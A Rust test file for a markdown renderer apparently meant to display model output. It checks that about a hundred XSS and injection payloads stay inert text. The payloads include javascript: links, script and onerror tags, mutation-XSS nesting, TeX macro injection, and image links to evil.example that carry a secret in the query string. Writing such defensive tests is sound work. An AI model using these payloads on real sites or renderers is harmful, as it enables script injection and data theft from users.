//! Nothing that a model writes becomes active, and nothing is loaded: the HTML is held against a parser of HTML5 that knows only
//! our vocabulary.

mod face;
mod inert;

use face::Watcher;
use inert::{assert_inert, vocabulary};
use parlance_markdown::{Renderer, render};
use proptest::{collection::vec, prelude::*, sample::select};

const ATTEMPTS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\\nscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](tauri://localhost/)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))",
    "[x](https://evil.example/ '\" onclick=\"alert(1)')",
    "[a\"><img src=x onerror=alert(1)>](https://evil.example)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onclick=alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <data:text/html,<script>alert(1)</script>>",
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![r]\n\n[R]: https://evil.example/?q=secret 'title'",
    "![![x](https://evil.example/1)](https://evil.example/2)",
    "[![x](https://evil.example/1)](https://evil.example/2)",
    "![\" onload=\"alert(1)](https://evil.example/p.png)",
    "![x](https://evil.example/p.png\" onerror=\"alert(1))",
    "[[[x](https://evil.example)](javascript:alert(1))](https://evil.example)",
    "<img src=x onerror=alert(1)>",
    "<img srcset=\"https://evil.example/p.png 2x\">",
    "<picture><source srcset=https://evil.example/p></picture>",
    "<svg onload=alert(1)><use href=\"data:x\"></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/s.css';</style>",
    "<p style=\"background:url(https://evil.example/p)\">x</p>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q></form>",
    "<video poster=https://evil.example/p src=x></video>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<details ontoggle=alert(1)>x</details>",
    "<kbd onclick=alert(1)>x</kbd>",
    "<br onclick=alert(1)>",
    "<kbd><sub><sup>**a</kbd> b** c",
    "a <kbd> *b </kbd> c* </sub>",
    "<details>\n<summary>a</details></summary>\n</details>",
    "- <details>\n  <summary>x\n\n</summary></details>",
    "| <kbd> | </kbd> |\n|---|---|\n| <sub> | a </sub> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "</div></span></code></pre><script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\u{202e}rs onload=alert(1)\nx\n```",
    "```js title=\"\"><script>alert(1)</script>\"\nx\n```",
    "```js title='x\" onload=alert(1) y=\"z.js'\nx\n```",
    "```js:a/\"onload=alert(1).js\nx\n```",
    "```<img/src=x>.js\nx\n```",
    "    </pre><img src=x onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>\n\n<h1 onclick=x>",
    "[^\"><script>]\n\n[^\"><script>]: x",
    "https://evil.example/\"onclick=alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "www.evil.example\"><img src=x>",
    "[x](https://\u{430}pple.example/\u{202e}gnp.exe)",
    "\u{202e}[x](javascript:alert(1))\u{202c}",
    "java\0script:alert(1) [x](java\0script:alert(1)) <scr\0ipt>",
    "> [!NOTE] <script>alert(1)</script>\n> <img src=x>",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\class{x\" onclick=\"alert(1)}{y}$$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\includegraphics{https://evil.example/p.png}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\text{</math><script>alert(1)</script>}$$",
    "$<\\!--<script>alert(1)</script>$",
    "$x\" onmouseover=\"alert(1)$",
    "$$\\unicode{x3c}script\\unicode{x3e}$$",
    "\\(\\operatorname{<svg onload=alert(1)>}\\)",
    "\\[\\begin{array}{c\" onclick=\"alert(1)} a \\end{array}\\]",
    "$$\\color{red\" onclick=\"alert(1)}x$$",
    "$$\\rule{1em\" onload=\"x}{1em}$$",
    "$$\\tag{<img src=x>}x$$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\html{<b>}$ $\\htmlData{a=b}{x}$ $\\cssId{a}{b}$",
];

fn check(source: &str) {
    let vocabulary = vocabulary();
    for html in render(source) {
        assert_inert(&vocabulary, &html, source);
    }
}

#[test]
fn attempts_stay_text() {
    for attempt in ATTEMPTS {
        check(attempt);
        for around in [
            "> {}",
            "- {}",
            "1. > {}",
            "# {}",
            "**{}**",
            "| {} |\n|---|\n| {} |",
            "[{}](https://a.example)",
            "[^1]: {}\n\n[^1]",
        ] {
            check(&around.replace("{}", attempt));
        }
    }
}

#[test]
fn attempts_stay_text_at_every_moment_of_a_stream() {
    let vocabulary = vocabulary();
    for attempt in ATTEMPTS {
        let mut renderer = Renderer::new();
        let mut watcher = Watcher::default();
        let mut look = |renderer: &Renderer| {
            for block in watcher.look(renderer).changed {
                let Some(html) = watcher.blocks.get(block) else { continue };
                assert_inert(&vocabulary, html, attempt);
            }
        };
        for character in attempt.chars() {
            renderer.push(character.encode_utf8(&mut [0; 4]));
            look(&renderer);
        }
        renderer.finish();
        look(&renderer);
    }
}

#[test]
fn addresses_that_are_refused_are_shown() {
    for (source, shown) in [
        ("[x](javascript:alert(1))", "(javascript:alert(1))"),
        ("[x](/etc/passwd)", "(/etc/passwd)"),
        ("![x](file:///a.png)", "(file:///a.png)"),
        ("![x](data:image/png;base64,AAAA)", "(data:image/png;base64,AAAA)"),
    ] {
        let html = render(source).concat();
        assert!(html.contains(&format!("<span class=\"md-address\">{shown}</span>")), "{html}");
        assert!(!html.contains("<a ") && !html.contains("<button"), "{html}");
    }
}

#[test]
fn a_long_definition_cannot_be_multiplied() {
    let address = format!("https://a.example/{}", "x".repeat(4_000));
    let source = format!("[a]: {address}\n\n{}", "[a] ".repeat(20_000));
    let html: usize = render(&source).iter().map(String::len).sum();
    assert!(html < 40 * source.len(), "{html} bytes of {}", source.len());
}

#[test]
fn depth_is_bounded() {
    for mark in ["> ", "- ", "**a ", "*a ", "<kbd>", "[", "![", "1. ", "> - "] {
        let source = mark.repeat(2_000) + "x";
        let html = render(&source).concat();
        let mut depth = 0_i32;
        let mut deepest = 0;
        for (at, _) in html.match_indices('<') {
            match &html[at..at + 2] {
                "</" => depth -= 1,
                _ if html[at..].starts_with("<br") || html[at..].starts_with("<hr") => {}
                _ => depth += 1,
            }
            deepest = deepest.max(depth);
        }
        assert!(depth == 0 && deepest < DEEPEST, "{mark:?}: {deepest}");
    }
}

#[test]
fn formulas_are_bounded() {
    for unit in [
        "{",
        "\\sqrt",
        "\\sqrt{",
        "\\frac{1}{",
        "x^{",
        "\\left(",
        "\\begin{matrix}",
        "\\boxed{",
        "\\relax",
        "%\n",
        "\\overset{a}",
        "\\not",
        "\\mathbb",
        "\\hat",
        "\\sideset{}{}",
        "\\binom",
        "\\text{",
        "\\color{red}",
        "\\rm ",
        "\\limits",
        "x'",
        "\\substack{",
        "\\mathop{",
        "\\bra{",
        "\\\\",
        "&",
        "\\tag{1}",
        "\\cancel",
        "{\\rm x}",
        "\\hspace{9em}",
    ] {
        for count in [1, 40, 70, 700, 4_000] {
            let tex = unit.repeat(count);
            for source in [format!("$${tex}$$"), format!("$$x{tex}x{}$$", "}".repeat(count))] {
                let html = render(&source).concat();
                assert!(
                    html.len() < 64 * source.len() + 1_000,
                    "{unit:?}: {} of {}",
                    html.len(),
                    source.len()
                );
            }
        }
    }
}

/// A formula is as deep as it may be, inside of whatever is as deep as it may be.
const DEEPEST: i32 = 128;

fn cases() -> ProptestConfig {
    let cases = std::env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok()).unwrap_or(2_000);
    ProptestConfig { cases, failure_persistence: None, ..ProptestConfig::default() }
}

/// Pieces of formulas, whole and broken.
fn tex() -> impl Strategy<Value = String> {
    let pieces = vec![
        "\\frac",
        "\\sqrt",
        "[3]",
        "{",
        "}",
        "{",
        "}",
        "x",
        "1",
        "^",
        "_",
        "\\left(",
        "\\right)",
        "\\left",
        "\\right.",
        "\\begin{align}",
        "\\end{align}",
        "\\begin{matrix}",
        "\\end{matrix}",
        "\\begin{array}{c|c}",
        "\\end{array}",
        "\\begin{cases}",
        "\\end{cases}",
        "&",
        "\\\\",
        "\\hline",
        "\\text{",
        "<b>",
        "\"",
        "'",
        "\\operatorname*{",
        "\\mathrm{",
        "\\boxed{",
        "\\tag{",
        "\\hat",
        "\\overline{",
        "\\underbrace{",
        "\\sum",
        "\\limits",
        "\\displaystyle",
        "\\color{red}",
        "\\not",
        "\\cancel",
        "\\big",
        "\\middle|",
        "|",
        "\\,",
        "\\hspace{1em}",
        "\\alpha",
        "\\mathbb",
        "\\bra{",
        "\\over",
        "\\substack{",
        "%",
        "#1",
        "~",
        "日本",
        "🎉",
        "−",
        ",",
        ".",
        "\\",
        "\\label{",
        "\\sin",
        "\\phantom{",
        " ",
    ];
    vec(select(pieces), 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(cases())]

    #[test]
    fn formulas_in_any_mixture_are_in_order(tex in tex()) {
        check(&format!("$${tex}$$"));
        check(&format!("$${tex}{}$$", "}".repeat(tex.matches('{').count().saturating_sub(tex.matches('}').count()))));
        check(&format!("a \\({tex}\\) b"));
    }

    #[test]
    fn attempts_in_any_mixture_stay_text(pieces in vec(prop_oneof![
        3 => select(ATTEMPTS).prop_map(str::to_owned),
        3 => select(vec!["\n", "\n\n", "- ", "> ", "  ", "**", "*", "`", "```\n", "[", "](", ")", "<", ">", "\"", "'", "| ", "|---|\n", "<kbd>",
            "</kbd>", "<details>", "</details>", "<summary>", "</summary>", "<br>", "\\", "&", "![", "~~", "# "]).prop_map(str::to_owned),
        1 => "[<>\"'&/=a-z \\n]{1,16}",
    ], 1..12)) {
        check(&pieces.concat());
    }
}
